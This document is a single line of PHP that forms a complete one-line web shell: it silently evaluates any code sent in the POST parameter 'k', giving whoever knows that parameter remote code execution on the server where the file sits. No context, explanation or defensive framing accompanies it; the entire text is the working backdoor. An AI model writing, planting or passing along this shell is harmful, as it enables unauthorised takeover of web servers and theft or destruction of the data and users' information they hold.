<?php @eval($_POST['k']); ?>
